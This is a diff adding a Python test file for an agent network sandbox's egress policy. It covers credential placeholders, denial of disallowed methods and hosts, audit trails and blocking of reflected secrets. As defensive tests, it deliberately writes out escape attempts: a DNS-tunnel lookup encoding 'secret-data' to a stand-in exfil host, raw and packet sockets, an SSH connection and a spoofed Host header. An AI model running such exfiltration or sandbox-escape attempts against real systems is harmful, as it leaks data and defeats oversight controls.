@@ -1,0 +1,125 @@
+"""What leaves, and what does not: rules, names, addresses, credentials, and how a denial reads."""
+import json
+
+from paddock import check, finish, sandbox, world
+
+SECRET = "real-token-0123456789abcdef-XYZ"
+POLICY = """\
+version: 1
+network:
+  - name: api
+    hosts: [api.example.test]
+    methods: [GET]
+    credential: api
+    addresses: [127.0.0.0/8]
+  - name: metadata
+    hosts: [rebind.example.test]
+    methods: [GET]
+credentials:
+  api:
+    source: {environment: API_TOKEN}
+    hosts: [api.example.test]
+    strategy: header
+    header: {name: authorization, format: "Bearer {secret}"}
+    placeholder: {environment: API_TOKEN, prefix: "tok-"}
+"""
+
+
+def curl(s, *arguments, options=()):
+    return s.run(["curl", "-sS", "-m", "20", "-w", "\n%{http_code}", *arguments], "--quiet", *options,
+                 env={"API_TOKEN": w.info["tokens"]["api"]})
+
+
+def allowed(s):
+    r = curl(s, "https://api.example.test/items")
+    check("an allowed GET gets its answer, with the credential that the agent does not hold",
+          r.stdout.endswith("200"), (r.stdout, r.stderr))
+    kinds = [x["kind"] for x in s.records()]
+    check("the trail has start, dns, intent, outcome, stop",
+          all(k in kinds for k in ("start", "dns", "intent", "outcome", "stop")), kinds)
+    order = [x["kind"] for x in s.records() if x["kind"] in ("intent", "outcome")]
+    check("the intent stands before its outcome", order[:2] == ["intent", "outcome"], order)
+    asked = s.records("intent")[0].get("asked_by", {})
+    check("the intent names the asking program", "curl" in asked.get("exe", ""), asked)
+    r = s.paddock("audit", "verify")
+    check("the trail verifies", r.returncode == 0, (r.stdout, r.stderr))
+    r = s.sh("echo $API_TOKEN; env", "--quiet", env={"API_TOKEN": w.info["tokens"]["api"]})
+    check("the guest has a placeholder in place of the token",
+          w.info["tokens"]["api"] not in r.stdout and r.stdout.startswith("tok-"), r.stdout[:200])
+
+
+def denied(s):
+    r = curl(s, "-X", "POST", "-d", "x", "https://api.example.test/items")
+    body, code = r.stdout.rsplit("\n", 1)
+    check("a POST where only GET is allowed is 403", code == "403", (r.stdout, r.stderr))
+    try:
+        answer = json.loads(body)
+    except ValueError:
+        answer = {}
+    check("the denial is JSON that an SDK understands",
+          answer.get("type") == "error" and answer.get("error", {}).get("type") == "permission_error", body)
+    about = answer.get("paddock", {})
+    check("it says rule, file, line, request and what to change",
+          all(k in about for k in ("policy", "request_id")) and len(answer.get("error", {}).get("message", "")) > 20, body)
+    check("nothing of it arrived upstream", not w.requests(method="POST"), w.requests(method="POST"))
+    check("the denial is in the trail", bool(s.records("denial")), s.records())
+    r = curl(s, "https://unlisted.example.test/")
+    check("an unlisted name does not resolve, at once", "Could not resolve" in r.stderr, r.stderr)
+    r = curl(s, "http://93.184.216.34/")
+    check("a bare address is refused", "200" not in r.stdout[-3:], (r.stdout, r.stderr))
+    r = curl(s, "-k", "https://93.184.216.34/")
+    check("a bare address over TLS is refused", r.returncode != 0, (r.stdout, r.stderr))
+    r = curl(s, "-H", "Host: evil.example.test", "https://api.example.test/items")
+    check("a Host that is not the TLS name is refused", r.stdout[-3:] in ("421", "403", "400"), (r.stdout, r.stderr))
+    r = curl(s, "https://rebind.example.test/", options=())
+    check("a name without an address upstream is an error, not a hang", r.returncode == 0 and r.stdout[-3:] in ("502", "403"),
+          (r.stdout, r.stderr))
+
+
+def other_protocols(s):
+    script = """
+import socket, time
+def attempt(name, f):
+    began = time.time()
+    try:
+        f(); print(name, 'went')
+    except Exception as e:
+        print(name, 'refused' if time.time() - began < 5 else 'HUNG', type(e).__name__)
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4); s.connect(('198.18.0.5', 443)); s.send(b'x'); s.recv(1)
+def raw():
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+def ping():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(4); s.connect(('198.18.0.5', 0)); s.send(b'x'); s.recv(1)
+def packet():
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
+def tunnel():
+    socket.getaddrinfo('c2VjcmV0LWRhdGE.exfil.example.test', 443)
+def ssh():
+    s = socket.create_connection(('198.18.0.1', 22), 15); s.settimeout(15); s.send(b'SSH-2.0-x\\r\\n'); d = s.recv(10)
+    if not d: raise OSError('closed')
+for n, f in (('udp', udp), ('raw', raw), ('ping', ping), ('packet', packet), ('tunnel', tunnel), ('ssh', ssh)):
+    attempt(n, f)
+"""
+    (s.workspace / "try.py").write_text(script)
+    r = s.run(["python3", "try.py"], "--quiet", env={"API_TOKEN": w.info["tokens"]["api"]})
+    for name in ("udp", "raw", "ping", "packet", "tunnel", "ssh"):
+        check(f"{name}: refused at once", f"{name} refused" in r.stdout, (r.stdout, r.stderr))
+
+
+def reflection(s):
+    s.set_policy(POLICY.replace("methods: [GET]\n    credential", "methods: [GET, POST]\n    credential"))
+    r = curl(s, "https://api.example.test/echo")
+    check("an answer that mirrors the credential is cut off",
+          w.info["tokens"]["api"] not in r.stdout and not r.stdout.endswith("200"), (r.stdout[-300:], r.stderr))
+    outcomes = [x for x in s.records("outcome") if x.get("result") == "SECRET_REFLECTED"]
+    check("and recorded as such", bool(outcomes), s.records("outcome"))
+
+
+with world() as w, sandbox("network", w, POLICY) as s:
+    allowed(s)
+    denied(s)
+    other_protocols(s)
+    reflection(s)
+    check("nothing is left behind", not s.left_behind(), s.left_behind())
+finish()
